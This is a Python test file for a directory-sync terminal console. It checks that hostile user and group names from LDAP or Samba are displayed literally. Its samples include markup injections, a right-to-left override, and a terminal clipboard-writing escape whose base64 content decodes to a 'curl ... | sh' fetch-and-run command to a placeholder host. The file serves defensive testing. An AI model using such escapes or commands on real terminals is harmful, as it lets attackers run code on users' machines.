"""Hostile names read from a real directory, through the real engine, onto every screen.

The in-memory directory (the demo's, read through the same LDAP code as a DC)
takes any string hypothesis makes; the Samba DC takes the names real domains
have (``Compras [SP]``, ``[TI] Suporte``, ``Projetos [/2019]``) and values
with terminal escapes. After a real sync into the emulator the console shows
them in the table, the preview (with field diffs), the details' skipped
objects and the row views: literal, with no control character reaching the
terminal and nothing of them read as markup.
"""

from __future__ import annotations

import contextlib
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from ldap3 import MODIFY_REPLACE
from hypothesis import HealthCheck, given, settings
from textual.widgets import DataTable

from smartsync_tui.demo import command as demo_cmd
from smartsync_tui.config.secret_store import SecretStore
from smartsync_tui.config.settings import load_settings
from smartsync_tui.store.state_store import StateStore
from smartsync_tui.engine.results import SyncOptions
from smartsync_tui.engine.sync import SyncEngine
from smartsync_tui.ui.app import SmartSyncApp
from smartsync_tui.ui.literal import clean
from smartsync_tui.ui.screens.details import DirectoryDetails
from smartsync_tui.ui.screens.preview import PreviewScreen
from smartsync_tui.ui.screens.row_view import RowView
from tests.support.hostile import (
    CANARY,
    MarkupWatch,
    hostile_text,
    markup_safe_name,
    plain,
    screen_lines,
    screen_problems,
)
from tests.support.logs import close_file_logging
from tests.support.waiting import settle


def _check(app, watch: MarkupWatch, where: str) -> None:  # type: ignore[no-untyped-def]
    assert not screen_problems(app), f"{where}: a control character reaches the terminal: {screen_problems(app)[:2]}"
    assert not watch.parsed, f"{where}: outside text was read as markup: {watch.parsed[0]!r}"


def _cells(table: DataTable) -> list[str]:
    return [plain(cell) for row in range(table.row_count) for cell in table.get_row_at(row)]


async def _preview_and_details(app: SmartSyncApp, pilot, watch: MarkupWatch, names: list[str]) -> None:  # type: ignore[no-untyped-def]
    """Preview (a dry run of what AD holds now), its row view, then a real sync and the details."""
    await pilot.press("d", "p")
    await settle(app)
    await pilot.pause()
    assert isinstance(app.screen, PreviewScreen), "the preview did not open"
    _check(app, watch, "preview")
    cells = _cells(app.screen.query_one("#plan-table", DataTable))
    for name in names:
        assert any(clean(name)[:30] in cell for cell in cells), f"{name!r} is not in the preview"
    if names:
        await pilot.press("enter")
        await pilot.pause()
        assert isinstance(app.screen, RowView)
        _check(app, watch, "preview row")
        await pilot.press("escape")
    await pilot.press("escape")
    await pilot.pause()

    await pilot.press("s")
    await settle(app)
    await pilot.pause()
    _check(app, watch, "table after the sync")
    await pilot.press("enter")
    await pilot.pause()
    assert isinstance(app.screen, DirectoryDetails)
    await pilot.press("3")
    await pilot.pause()
    _check(app, watch, "skipped objects")
    table = app.screen.query_one("#skipped-table", DataTable)
    rows = [row for row in range(table.row_count) if any(CANARY in plain(cell) for cell in table.get_row_at(row))]
    assert rows, "the skipped user with the hostile name is not listed"
    table.focus()
    table.move_cursor(row=rows[0], animate=False)
    await pilot.pause(0.2)
    await pilot.press("enter")
    await pilot.pause()
    assert isinstance(app.screen, RowView)
    _check(app, watch, "skipped object's row")
    assert CANARY in "\n".join(screen_lines(app)), "the skipped user's row view does not show it"
    await pilot.press("escape", "escape")


@contextlib.contextmanager
def memory_demo(root: Path) -> Iterator[demo_cmd.Demo]:
    """A fresh in-memory demo per example: what an earlier example left in AD or Identity stays out."""
    prepared = demo_cmd.prepare(use_samba=False, workdir=root / f"demo-{uuid.uuid4().hex[:6]}")
    try:
        yield prepared
    finally:
        prepared.close()
        close_file_logging()


def _console(demo) -> SmartSyncApp:  # type: ignore[no-untyped-def]
    return SmartSyncApp(demo.home, load_settings(demo.home.settings_file), secrets=SecretStore(demo.home.secrets_file),
                        scheduler=False)


def _cn(text: str, tag: str) -> str:
    """A CN for the in-memory directory: unique per example and, as in AD, at most 64 characters
    (ldap3's mock DIT also mishandles an escaped backslash)."""
    return f"{markup_safe_name(text).replace(chr(92), '/')[:50]} {tag}"


@settings(max_examples=6, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(given_name=hostile_text(long=False), surname=hostile_text(), group=hostile_text(long=False))
async def test_hostile_names_from_the_in_memory_directory(tmp_path, given_name, surname, group):
    with memory_demo(tmp_path) as demo:
        await _hostile_names_in_memory(demo, given_name, surname, group)


async def _hostile_names_in_memory(memory_demo, given_name: str, surname: str, group: str) -> None:  # type: ignore[no-untyped-def]
    memory = memory_demo.memory
    tag = uuid.uuid4().hex[:6]
    person = memory.add_person({"sam": f"h{tag}", "given": "Ana", "sn": "Lima", "name": _cn(surname, tag),
                                "mail": f"h{tag}@demo.invalid"})
    # A sync of the seed and this person, so that the preview shows only the changes below.
    with StateStore(memory_demo.home.state_db) as state:
        engine = SyncEngine(load_settings(memory_demo.home.settings_file), SecretStore(memory_demo.home.secrets_file), state)
        assert engine.run("demo", SyncOptions()).outcome in ("ok", "partial")
    conn = memory.admin_connection()
    conn.modify(person, {"givenName": [(MODIFY_REPLACE, [given_name])], "sn": [(MODIFY_REPLACE, [surname])]})
    memory.add_person({"sam": f"n{tag}", "given": "Sem", "sn": "Email", "name": _cn(given_name, "n" + tag)})
    memory.add_group(_cn(group, tag), [person], sam=f"g{tag}")
    app = _console(memory_demo)
    watch = MarkupWatch()
    with watch.watching():
        async with app.run_test(size=(80, 24), notifications=True) as pilot:
            # The preview's field diff shows the new names; the group's create its name.
            # The sync strips a value's ends (whitespace of any kind) before Identity or the preview sees it.
            await _preview_and_details(app, pilot, watch, [given_name.strip(), _cn(group, tag)])
            assert app.is_running


#: The names of real domains that crashed the console, and values that carry terminal escapes.
SAMBA_NAMES = ["Compras [SP]", "[TI] Suporte", "Projetos [/2019]", "[b]Negrito", "[@click=app.quit]Sair",
               "[link=https://evil.invalid]x[/link]"]


@pytest.mark.samba
async def test_bracketed_and_escaped_names_from_samba(sync_env):
    ad = sync_env.ad
    given_names = [f"{CANARY}{name}" for name in SAMBA_NAMES]
    people = [ad.add_user(f"b{i}", given, "Souza") for i, given in enumerate(given_names)]
    # An attribute with a clipboard-writing escape: shown literally; Identity refuses it (control characters).
    ad.add_user("osc", f"{CANARY}Osc", "Souza", title="\x1b]52;c;Y3VybCBldmlsLmludmFsaWQvcyB8IHNo\x07Analista")
    ad.add_user("semmail", f"{CANARY}Projetos [/2019]", "\u202eSem", mail=None)
    ad.add_group(f"{CANARY}Compras [SP]", people[:2])
    ad.add_group(f"{CANARY}[TI] Suporte", people[2:])
    app = SmartSyncApp(sync_env.home, load_settings(sync_env.home.settings_file), secrets=sync_env.secrets,
                       scheduler=False)
    watch = MarkupWatch()
    with watch.watching():
        for size in ((80, 24), (120, 40)):
            async with app.run_test(size=size, notifications=True) as pilot:
                await _preview_and_details(app, pilot, watch, given_names if size == (80, 24) else [])
                assert app.is_running
            app = SmartSyncApp(sync_env.home, load_settings(sync_env.home.settings_file), secrets=sync_env.secrets,
                               scheduler=False)
    users = sync_env.by_login()
    assert {u["first_name"] for u in users.values()} >= set(given_names), "Identity got the names as AD has them"
